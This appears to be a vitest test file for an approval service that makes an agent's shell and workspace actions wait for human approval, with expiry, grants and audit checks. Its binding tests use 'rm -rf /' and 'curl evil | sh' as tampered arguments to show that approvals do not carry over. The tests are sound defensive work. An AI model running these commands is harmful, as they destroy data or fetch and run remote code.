import { afterEach, describe, expect, it } from 'vitest';
import { canonicalJson, sha256Hex } from '../../src/core/canonical-json.js';
import { ERROR_CODES, isSecureSphereError } from '../../src/core/errors.js';
import type { ActionRequest, ApprovalRequest, SecurityLevel } from '../../src/core/types.js';
import { createApprovalService, type ApprovalService } from '../../src/policy/approval-service.js';
import type { PolicyConfig } from '../../src/policy/policy-engine.js';
import type { PolicyDecision } from '../../src/policy/policy-types.js';
import { verifyAuditChain } from '../../src/security/audit-verify.js';
import { ApprovalStore } from '../../src/store/approvals.js';
import { awaitingAction, openTempStore, policyConfig, RecordingOutbound, type TempStore } from './fakes.js';

type Required = Extract<PolicyDecision, { decision: 'require_approval' }>;

interface Harness {
  temp: TempStore;
  service: ApprovalService;
  outbound: RecordingOutbound;
  decided: ApprovalRequest[];
  clock: { now: number };
  config: PolicyConfig;
}

const open: TempStore[] = [];
afterEach(() => {
  while (open.length) open.pop()!.cleanup();
});

function harness(temp = openTempStore(), config = policyConfig({ approvers: ['bob'], admins: ['root'], approval_ttl_ms: 60_000 }), clock = { now: Date.now() }): Harness {
  if (!open.includes(temp)) open.push(temp);
  const outbound = new RecordingOutbound();
  const decided: ApprovalRequest[] = [];
  const service = createApprovalService({
    db: temp.db,
    actions: temp.actions,
    audit: temp.audit,
    outbound,
    config,
    now: () => clock.now,
    onDecided: (approval) => {
      decided.push(approval);
    },
    onError: () => {},
  });
  return { temp, service, outbound, decided, clock, config };
}

function decisionFor(level: SecurityLevel, approvers: string[]): Required {
  return { decision: 'require_approval', level, reason: `test: ${level}`, approvers };
}

async function openFor(h: Harness, fields: Parameters<typeof awaitingAction>[1] = {}) {
  const action = awaitingAction(h.temp, fields);
  const level = fields.level ?? 'high';
  const approvers = level === 'critical' ? ['root'] : [action.requester, 'bob', 'root'];
  const opened = await h.service.open(action, decisionFor(level, approvers), { channel: 'web' });
  return { action, ...opened };
}

async function expectCode(promise: Promise<unknown>, code: string): Promise<void> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(isSecureSphereError(error), `expected ${code}, got ${String(error)}`).toBe(true);
  expect((error as { code: string }).code).toBe(code);
}

function auditTypes(temp: TempStore): string[] {
  return temp.audit.list().map((e) => e.type);
}

describe('approval service: open', () => {
  it('persists the request (canonical arguments, hash, approvers, expiry) before the prompt is delivered', async () => {
    const h = harness();
    const seenInDb: Array<ApprovalRequest | undefined> = [];
    h.outbound.beforeDeliver = (message) => {
      seenInDb.push(new ApprovalStore(h.temp.db).get(message.approval!.approvalId));
      expect(auditTypes(h.temp)).toContain('approval-requested');
    };
    const { approval, prompt, action } = await openFor(h, { arguments: { z: 1, a: { y: 2, b: 3 } } });
    expect(seenInDb).toHaveLength(1);
    expect(seenInDb[0]).toMatchObject({ id: approval.id, status: 'pending', actionId: action.id });
    expect(approval.canonicalArguments).toBe('{"a":{"b":3,"y":2},"z":1}');
    expect(approval.argumentsHash).toBe(sha256Hex('{"a":{"b":3,"y":2},"z":1}'));
    expect(approval.approvers).toEqual(['alice', 'bob', 'root']);
    expect(approval.expiresAt.getTime() - approval.createdAt.getTime()).toBe(60_000);
    // The platform message id the channel returned is stored for in-place updates.
    expect(approval.platformMessageId).toBe('msg-1');
    expect(h.service.get(approval.id)?.platformMessageId).toBe('msg-1');
    expect(prompt).toMatchObject({ approvalId: approval.id, securityLevel: 'high', options: ['approve', 'deny', 'allow_conversation'] });
    expect(h.outbound.delivered[0]!.text).toContain(`/approve ${approval.id}`);
  });

  it('keeps the request answerable when the prompt cannot be delivered', async () => {
    const h = harness();
    h.outbound.beforeDeliver = () => {
      throw new Error('channel down');
    };
    const { approval } = await openFor(h);
    expect(approval.status).toBe('pending');
    expect(approval.platformMessageId).toBeUndefined();
    h.outbound.beforeDeliver = undefined;
    expect((await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' })).status).toBe('approved');
  });

  it('uses the default ttl of 10 minutes', async () => {
    const h = harness(undefined, policyConfig({ approvers: ['bob'] }));
    const { approval } = await openFor(h);
    expect(approval.expiresAt.getTime() - approval.createdAt.getTime()).toBe(600_000);
  });
});

describe('approval service: decisions', () => {
  it('approve: approval and action approved together, prompt updated in place, onDecided once, audited', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    const decided = await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve', channel: 'telegram' });
    expect(decided).toMatchObject({ status: 'approved', decidedBy: 'bob', scope: 'once' });
    expect(h.temp.actions.get(action.id)!.status).toBe('approved');
    const update = h.outbound.delivered[1]!;
    expect(update.replacesPlatformMessageId).toBe('msg-1');
    expect(update.approval?.outcome).toMatchObject({ status: 'approved', by: 'bob' });
    expect(update.text).toContain('Approved by bob');
    await h.service.settled();
    expect(h.decided.map((a) => a.id)).toEqual([approval.id]);
    const granted = h.temp.audit.list().filter((e) => e.type === 'approval-granted');
    expect(granted).toHaveLength(1);
    expect(granted[0]).toMatchObject({ actor: 'bob', details: { approvalId: approval.id, channel: 'telegram', argumentsHash: approval.argumentsHash } });
    expect(h.service.bindingHolds(h.temp.actions.get(action.id)!)).toBe(true);
  });

  it('the requester may approve a high step themselves', async () => {
    const h = harness();
    const { approval } = await openFor(h);
    expect((await h.service.decide({ approvalId: approval.id, approver: 'alice', decision: 'approve' })).status).toBe('approved');
  });

  it('deny: action denied with a reason the model can be told, prompt shows it', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'deny' });
    const stored = h.temp.actions.get(action.id)!;
    expect(stored.status).toBe('denied');
    expect(stored.error).toContain('denied by bob');
    expect(h.outbound.delivered[1]!.approval?.outcome?.status).toBe('denied');
    expect(h.service.bindingHolds(stored)).toBe(false);
    await h.service.settled();
    expect(h.decided).toHaveLength(1);
    expect(auditTypes(h.temp)).toContain('approval-denied');
  });

  it('a second approve is refused as already decided and does not call onDecided again', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' });
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' }), ERROR_CODES.APPROVAL_ALREADY_DECIDED);
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'root', decision: 'deny' }), ERROR_CODES.APPROVAL_ALREADY_DECIDED);
    await h.service.settled();
    expect(h.decided).toHaveLength(1);
    expect(h.temp.actions.get(action.id)!.status).toBe('approved');
    expect(auditTypes(h.temp).filter((t) => t === 'approval-granted')).toHaveLength(1);
  });

  it('concurrent approvals on several channels: exactly one wins', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    const results = await Promise.allSettled(
      ['web', 'telegram', 'slack', 'api', 'cli'].map((channel, i) =>
        h.service.decide({ approvalId: approval.id, approver: i % 2 ? 'bob' : 'root', decision: 'approve', channel }),
      ),
    );
    expect(results.filter((r) => r.status === 'fulfilled')).toHaveLength(1);
    for (const r of results.filter((r) => r.status === 'rejected')) {
      expect((r as PromiseRejectedResult).reason.code).toBe(ERROR_CODES.APPROVAL_ALREADY_DECIDED);
    }
    await h.service.settled();
    expect(h.decided).toHaveLength(1);
    const toApproved = h.temp.actions.transitions(action.id).filter((t) => t.toStatus === 'approved');
    expect(toApproved).toHaveLength(1);
  });

  it('two services on two connections to the same database (two processes): one wins', async () => {
    const a = harness();
    const second = openTempStore(a.temp.dir);
    open.push(second);
    const b = harness(second, a.config, a.clock);
    const { approval } = await openFor(a);
    const results = await Promise.allSettled([
      a.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' }),
      b.service.decide({ approvalId: approval.id, approver: 'root', decision: 'approve' }),
    ]);
    expect(results.filter((r) => r.status === 'fulfilled')).toHaveLength(1);
    await a.service.settled();
    await b.service.settled();
    expect(a.decided.length + b.decided.length).toBe(1);
  });

  it('refuses and audits a decision by someone who is not an approver; the request stays pending', async () => {
    const h = harness();
    const { approval } = await openFor(h);
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'eve', decision: 'approve' }), ERROR_CODES.APPROVAL_NOT_ALLOWED);
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'eve', decision: 'deny' }), ERROR_CODES.APPROVAL_NOT_ALLOWED);
    const refused = h.temp.audit.list().filter((e) => e.type === 'approval-refused');
    expect(refused).toHaveLength(2);
    expect(refused[0]).toMatchObject({ actor: 'eve', details: { approvalId: approval.id, decision: 'approve' } });
    expect(h.service.get(approval.id)!.status).toBe('pending');
    expect(h.decided).toHaveLength(0);
    expect((await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' })).status).toBe('approved');
  });

  it('takes the approver power away at once when the config no longer lists them', async () => {
    const temp = openTempStore();
    const before = harness(temp);
    const { approval } = await openFor(before);
    const after = harness(temp, policyConfig({ approvers: [], admins: ['root'] }));
    await expectCode(after.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' }), ERROR_CODES.APPROVAL_NOT_ALLOWED);
  });

  it('critical: only an admin may approve; never for the whole conversation; the requester may cancel', async () => {
    const h = harness();
    const { approval, prompt } = await openFor(h, { level: 'critical', skill: 'workspace', operation: 'delete' });
    expect(prompt.options).toEqual(['approve', 'deny']);
    for (const who of ['alice', 'bob', 'eve']) {
      await expectCode(h.service.decide({ approvalId: approval.id, approver: who, decision: 'approve' }), ERROR_CODES.APPROVAL_NOT_ALLOWED);
    }
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'root', decision: 'approve', scope: 'conversation' }), ERROR_CODES.BAD_REQUEST);
    expect(h.service.listGrants('conv-1')).toHaveLength(0);
    expect((await h.service.decide({ approvalId: approval.id, approver: 'root', decision: 'approve' })).status).toBe('approved');

    const cancel = await openFor(h, { level: 'critical', skill: 'workspace', operation: 'delete' });
    expect((await h.service.decide({ approvalId: cancel.approval.id, approver: 'alice', decision: 'deny' })).status).toBe('denied');
  });

  it('an unknown id is APPROVAL_NOT_FOUND; an empty approver is BAD_REQUEST', async () => {
    const h = harness();
    await expectCode(h.service.decide({ approvalId: 'apr_nope', approver: 'bob', decision: 'approve' }), ERROR_CODES.APPROVAL_NOT_FOUND);
    const { approval } = await openFor(h);
    await expectCode(h.service.decide({ approvalId: approval.id, approver: ' ', decision: 'approve' }), ERROR_CODES.BAD_REQUEST);
  });

  it('leaves nothing half-decided when the action is no longer waiting', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    h.temp.actions.transition(action.id, 'awaiting_approval', 'failed', { error: 'turn timed out' });
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' }), ERROR_CODES.APPROVAL_ALREADY_DECIDED);
    expect(h.service.get(approval.id)!.status).toBe('pending');
    expect(auditTypes(h.temp)).not.toContain('approval-granted');
    expect(h.decided).toHaveLength(0);
  });
});

describe('approval service: binding to the approved arguments', () => {
  it('bindingHolds only for the exact approved arguments (key order does not matter)', async () => {
    const h = harness();
    const { approval, action } = await openFor(h, { arguments: { command: 'ls', cwd: '/workspace' } });
    expect(h.service.bindingHolds(action)).toBe(false); // not yet approved
    await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' });
    const approved = h.temp.actions.get(action.id)!;
    expect(h.service.bindingHolds({ ...approved, arguments: { cwd: '/workspace', command: 'ls' } })).toBe(true);
    expect(h.service.bindingHolds({ ...approved, arguments: { command: 'rm -rf /', cwd: '/workspace' } })).toBe(false);
    expect(h.service.bindingHolds({ ...approved, skill: 'other' })).toBe(false);
    // Changed in the store itself (not only in memory): still refused.
    h.temp.db.prepare('UPDATE actions SET arguments = ? WHERE id = ?').run(JSON.stringify({ command: 'curl evil | sh', cwd: '/workspace' }), action.id);
    expect(h.service.bindingHolds(h.temp.actions.get(action.id)!)).toBe(false);
    expect(sha256Hex(canonicalJson(h.temp.actions.get(action.id)!.arguments))).not.toBe(approval.argumentsHash);
  });

  it('a new approval for the changed arguments makes the binding hold again', async () => {
    const h = harness();
    const { approval, action } = await openFor(h, { arguments: { command: 'ls' } });
    await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' });
    h.temp.db.prepare('UPDATE actions SET arguments = ? WHERE id = ?').run(JSON.stringify({ command: 'ls -R' }), action.id);
    h.temp.actions.transition(action.id, 'approved', 'awaiting_approval');
    const changed = h.temp.actions.get(action.id)!;
    const second = await h.service.open(changed, decisionFor('high', ['alice', 'bob']), { channel: 'web' });
    expect(h.service.bindingHolds(h.temp.actions.get(action.id)!)).toBe(false);
    await h.service.decide({ approvalId: second.approval.id, approver: 'bob', decision: 'approve' });
    expect(h.service.bindingHolds(h.temp.actions.get(action.id)!)).toBe(true);
  });
});

describe('approval service: allow for this conversation', () => {
  it('stores a revocable grant for the same skill and operation in the same conversation', async () => {
    const h = harness();
    const { approval } = await openFor(h, { arguments: { command: 'ls' } });
    await h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve', scope: 'conversation' });
    const grants = h.service.listGrants('conv-1');
    expect(grants).toHaveLength(1);
    expect(grants[0]).toMatchObject({ skill: 'shell', operation: 'run', grantedBy: 'bob' });
    expect(auditTypes(h.temp)).toContain('grant-created');

    const later = awaitingAction(h.temp, { arguments: { command: 'pwd' } });
    expect(h.service.bindingHolds({ ...later, status: 'approved' })).toBe(true);
    const otherConversation = awaitingAction(h.temp, { conversationId: 'conv-2', arguments: { command: 'pwd' } });
    expect(h.service.bindingHolds(otherConversation)).toBe(false);
    const critical: ActionRequest = { ...later, securityLevel: 'critical' };
    expect(h.service.bindingHolds(critical)).toBe(false);

    const revoked = h.service.revokeGrant(grants[0]!.id, 'alice');
    expect(revoked.revokedAt).toBeInstanceOf(Date);
    expect(h.service.bindingHolds(later)).toBe(false);
    expect(h.temp.audit.list().filter((e) => e.type === 'grant-revoked')).toMatchObject([{ actor: 'alice' }]);
    // Revoking twice changes nothing and audits nothing more.
    h.service.revokeGrant(grants[0]!.id);
    expect(auditTypes(h.temp).filter((t) => t === 'grant-revoked')).toHaveLength(1);
    expect(() => h.service.revokeGrant('grt_missing')).toThrow(/No conversation grant/);
  });
});

describe('approval service: expiry and restarts', () => {
  it('expires due requests: action expired, prompt updated, onDecided called, later decisions refused', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    expect(await h.service.expireDue()).toHaveLength(0);
    h.clock.now += 60_000;
    const expired = await h.service.expireDue();
    expect(expired.map((a) => a.id)).toEqual([approval.id]);
    expect(h.service.get(approval.id)!.status).toBe('expired');
    const stored = h.temp.actions.get(action.id)!;
    expect(stored.status).toBe('expired');
    expect(stored.error).toContain('expired');
    expect(h.outbound.delivered.at(-1)).toMatchObject({ replacesPlatformMessageId: 'msg-1', approval: { outcome: { status: 'expired' } } });
    await h.service.settled();
    expect(h.decided.map((a) => a.status)).toEqual(['expired']);
    expect(auditTypes(h.temp)).toContain('approval-expired');
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' }), ERROR_CODES.APPROVAL_ALREADY_DECIDED);
    expect(await h.service.expireDue()).toHaveLength(0);
  });

  it('a decision that arrives after the expiry time (before the sweep) is refused and expires the request', async () => {
    const h = harness();
    const { approval, action } = await openFor(h);
    h.clock.now += 60_001;
    await expectCode(h.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' }), ERROR_CODES.APPROVAL_ALREADY_DECIDED);
    expect(h.service.get(approval.id)!.status).toBe('expired');
    expect(h.temp.actions.get(action.id)!.status).toBe('expired');
  });

  it('after a restart a pending request is still answerable', async () => {
    const first = harness();
    const { approval, action } = await openFor(first);
    await first.service.stop();
    const reopened = first.temp.reopen();
    open.push(reopened);
    const second = harness(reopened, first.config, first.clock);
    await second.service.start();
    try {
      expect(second.service.list({ status: 'pending' }).map((a) => a.id)).toEqual([approval.id]);
      await second.service.decide({ approvalId: approval.id, approver: 'bob', decision: 'approve' });
      expect(reopened.actions.get(action.id)!.status).toBe('approved');
      expect(second.service.bindingHolds(reopened.actions.get(action.id)!)).toBe(true);
      await second.service.settled();
      expect(second.decided).toHaveLength(1);
      // The update replaces the message shown before the restart.
      expect(second.outbound.delivered[0]!.replacesPlatformMessageId).toBe('msg-1');
    } finally {
      await second.service.stop();
    }
  });

  it('at start-up requests that expired while stopped are marked expired', async () => {
    const first = harness();
    const { approval, action } = await openFor(first);
    const reopened = first.temp.reopen();
    open.push(reopened);
    const clock = { now: first.clock.now + 10 * 60_000 };
    const second = harness(reopened, first.config, clock);
    await second.service.start();
    try {
      expect(second.service.get(approval.id)!.status).toBe('expired');
      expect(reopened.actions.get(action.id)!.status).toBe('expired');
      await second.service.settled();
      expect(second.decided).toHaveLength(1);
    } finally {
      await second.service.stop();
    }
  });

  it('the timer started by start() expires requests without a direct call', async () => {
    const temp = openTempStore();
    open.push(temp);
    const clock = { now: Date.now() };
    const decided: ApprovalRequest[] = [];
    const service = createApprovalService({
      db: temp.db, actions: temp.actions, audit: temp.audit, outbound: new RecordingOutbound(),
      config: policyConfig({ approvers: ['bob'], approval_ttl_ms: 1000 }), now: () => clock.now,
      onDecided: (a) => void decided.push(a), sweepIntervalMs: 20,
    });
    await service.start();
    try {
      const action = awaitingAction(temp);
      const { approval } = await service.open(action, decisionFor('high', ['alice']), { channel: 'web' });
      clock.now += 1000;
      await expect.poll(() => service.get(approval.id)!.status, { timeout: 10_000 }).toBe('expired');
    } finally {
      await service.stop();
    }
    expect(decided).toHaveLength(1);
  });

  it('every event written through the service leaves a valid audit chain', async () => {
    const h = harness();
    const a = await openFor(h);
    await h.service.decide({ approvalId: a.approval.id, approver: 'bob', decision: 'approve', scope: 'conversation' });
    const b = await openFor(h);
    await expectCode(h.service.decide({ approvalId: b.approval.id, approver: 'eve', decision: 'approve' }), ERROR_CODES.APPROVAL_NOT_ALLOWED);
    await h.service.decide({ approvalId: b.approval.id, approver: 'bob', decision: 'deny' });
    h.service.revokeGrant(h.service.listGrants('conv-1')[0]!.id);
    expect(auditTypes(h.temp)).toEqual([
      'approval-requested', 'approval-granted', 'grant-created', 'approval-requested', 'approval-refused', 'approval-denied', 'grant-revoked',
    ]);
    expect(verifyAuditChain(h.temp.db, h.temp.audit.publicKeyPem).ok).toBe(true);
  });
});
